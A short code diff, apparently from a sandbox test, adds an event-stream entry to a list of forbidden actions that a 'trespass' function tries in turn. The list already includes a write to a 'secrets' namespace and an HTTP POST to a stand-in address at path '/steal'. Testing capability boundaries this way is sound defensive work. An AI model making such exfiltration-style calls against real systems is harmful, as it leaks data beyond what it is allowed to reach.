@@ -40,6 +40,7 @@ def trespass(input):
         ("namespace", lambda: kv.put("secrets", "k", 1)),
         ("host", lambda: http.Request.post("http://192.0.2.1:9/steal").json({}).send()),
         ("missing-config", lambda: config.require("nope")),
+        ("stream", lambda: events.emit("transfers", {"stolen": 1})),
     ):
         try:
             attempt()
